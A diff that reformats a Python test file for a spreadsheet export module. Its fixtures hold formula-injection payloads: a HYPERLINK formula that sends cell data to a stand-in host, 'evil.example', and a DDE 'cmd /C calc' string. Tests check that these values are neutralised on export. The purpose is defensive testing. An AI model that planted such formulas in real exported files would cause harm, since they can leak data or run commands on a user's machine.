@@ -16,21 +16,52 @@ from tables import build
 from extractor import Issue, _export, chunk_to_record, recheck
 from extractor._export import export
 
-HOSTILE = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "department": "@SUM(1+1)*cmd|' /C calc'!A0",
-           "unit": "+1-2", "file": '=HYPERLINK("http://evil.example").docx'}
-AUDIT = [{"file": HOSTILE["file"], "table": 1, "item": 3, "action": "set", "code": "missing_value",
-          "field": "implementing_unit", "old_value": "-2+3", "new_value": " =1+1", "who": "\t=cmd",
-          "at": "2026-01-01T00:00:00+00:00", "undone_at": None},
-         {"file": "ok.docx", "table": 2, "item": 4, "action": "set", "code": "unit_suspect", "field": "amount_unit",
-          "old_value": "#N/A", "new_value": "\r@x", "who": "alice", "at": "2026-01-01T00:00:01+00:00",
-          "undone_at": None}]
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "unit": "+1-2",
+    "file": '=HYPERLINK("http://evil.example").docx',
+}
+AUDIT = [
+    {
+        "file": HOSTILE["file"],
+        "table": 1,
+        "item": 3,
+        "action": "set",
+        "code": "missing_value",
+        "field": "implementing_unit",
+        "old_value": "-2+3",
+        "new_value": " =1+1",
+        "who": "\t=cmd",
+        "at": "2026-01-01T00:00:00+00:00",
+        "undone_at": None,
+    },
+    {
+        "file": "ok.docx",
+        "table": 2,
+        "item": 4,
+        "action": "set",
+        "code": "unit_suspect",
+        "field": "amount_unit",
+        "old_value": "#N/A",
+        "new_value": "\r@x",
+        "who": "alice",
+        "at": "2026-01-01T00:00:01+00:00",
+        "undone_at": None,
+    },
+]
 
 
 def _records(n: int = 3):
     out = []
     for k in range(n):
-        chunk = build(name=HOSTILE["name"], department=HOSTILE["department"], unit=HOSTILE["unit"],
-                      file=HOSTILE["file"], index=k + 1)
+        chunk = build(
+            name=HOSTILE["name"],
+            department=HOSTILE["department"],
+            unit=HOSTILE["unit"],
+            file=HOSTILE["file"],
+            index=k + 1,
+        )
         record = chunk_to_record(chunk).record
         recheck(record)
         out.append((record, k % 2 == 0))
@@ -66,10 +97,24 @@ def test_xlsx_keeps_control_characters_visible_instead_of_failing(tmp_path):
     assert "a\\x1b[2Jb\\x07" in values
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=x", "'\t=x"), ("\r=x", "'\r=x"),
-    ("  =x", "'  =x"), (" \t+x", "' \t+x"), ("100%", "100%"), ("项目", "项目"), ("a=b", "a=b"), (-5, -5), (None, None),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\t=x", "'\t=x"),
+        ("\r=x", "'\r=x"),
+        ("  =x", "'  =x"),
+        (" \t+x", "' \t+x"),
+        ("100%", "100%"),
+        ("项目", "项目"),
+        ("a=b", "a=b"),
+        (-5, -5),
+        (None, None),
+    ],
+)
 def test_neutralise(value, expected):
     assert _export.neutralise(value) == expected
 
@@ -85,7 +130,9 @@ def test_csv_and_its_audit_neutralise_formulas_and_keep_numbers(tmp_path):
     assert {r["total.initial_budget"] for r in rows} == {"120.5"}
     trail = list(csv.DictReader(open(tmp_path / "x.audit.csv", encoding="utf-8-sig", newline="")))
     assert [(a["old_value"], a["new_value"], a["who"]) for a in trail] == [
-        ("'-2+3", "' =1+1", "'\t=cmd"), ("#N/A", "'\r@x", "alice")]
+        ("'-2+3", "' =1+1", "'\t=cmd"),
+        ("#N/A", "'\r@x", "alice"),
+    ]
     for row in [*rows, *trail]:
         for value in row.values():
             assert not value.lstrip().startswith(("=", "+", "-", "@")) or value.startswith("'"), value
@@ -134,25 +181,40 @@ def test_each_record_row_is_computed_once_and_xlsx_is_never_reloaded(tmp_path, m
 
 def test_the_password_hasher_does_no_work_at_import():
     """The dummy hash (for unknown names) is made on first use, not when the web app or CLI imports the module."""
-    code = ("import argon2\n"
-            "calls = []\n"
-            "real = argon2.PasswordHasher.hash\n"
-            "argon2.PasswordHasher.hash = lambda self, p, **k: calls.append(1) or real(self, p, **k)\n"
-            "import extractor.review._passwords as p\n"
-            "print(len(calls))\n")
+    code = (
+        "import argon2\n"
+        "calls = []\n"
+        "real = argon2.PasswordHasher.hash\n"
+        "argon2.PasswordHasher.hash = lambda self, p, **k: calls.append(1) or real(self, p, **k)\n"
+        "import extractor.review._passwords as p\n"
+        "print(len(calls))\n"
+    )
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.strip() == "0"
 
 
-@pytest.mark.parametrize("name, fmt, expected", [
-    ("all.xlsx", None, "xlsx"), ("all.CSV", None, "csv"), ("all.jsonl", None, "jsonl"), ("a.ndjson", None, "jsonl"),
-    ("all.dat", "csv", "csv"), ("all.xlsx", "xlsx", "xlsx")])
+@pytest.mark.parametrize(
+    "name, fmt, expected",
+    [
+        ("all.xlsx", None, "xlsx"),
+        ("all.CSV", None, "csv"),
+        ("all.jsonl", None, "jsonl"),
+        ("a.ndjson", None, "jsonl"),
+        ("all.dat", "csv", "csv"),
+        ("all.xlsx", "xlsx", "xlsx"),
+    ],
+)
 def test_the_format_follows_the_name(name, fmt, expected):
     assert _export.format_for(Path(name), fmt) == expected
 
 
-@pytest.mark.parametrize("name, fmt, words", [("all.txt", None, "cannot tell the export format of all.txt"),
-                                              ("all.xlsx", "jsonl", "--format jsonl does not match the name all.xlsx")])
+@pytest.mark.parametrize(
+    "name, fmt, words",
+    [
+        ("all.txt", None, "cannot tell the export format of all.txt"),
+        ("all.xlsx", "jsonl", "--format jsonl does not match the name all.xlsx"),
+    ],
+)
 def test_a_name_that_says_no_format_or_another_is_refused(name, fmt, words):
     with pytest.raises(_export.ExportError, match=words):
         _export.format_for(Path(name), fmt)
@@ -167,8 +229,10 @@ def test_cli_export_refuses_unknown_names_and_missing_folders_with_a_message(tmp
     xlsx = runner.invoke(main, ["export", "-o", str(tmp_path / "all.xlsx")])
     assert xlsx.exit_code == 0 and zipfile_ok(tmp_path / "all.xlsx")  # an XLSX, not JSONL under an .xlsx name
     assert not (tmp_path / "all.audit.xlsx").exists()
-    for args, words in ((["-o", str(tmp_path / "no" / "such" / "x.csv")], "the folder"),
-                        (["-o", str(tmp_path / "x.txt")], "cannot tell the export format")):
+    for args, words in (
+        (["-o", str(tmp_path / "no" / "such" / "x.csv")], "the folder"),
+        (["-o", str(tmp_path / "x.txt")], "cannot tell the export format"),
+    ):
         out = runner.invoke(main, ["export", *args])
         assert out.exit_code == 2 and words in out.output and "Traceback" not in out.output, out.output
 
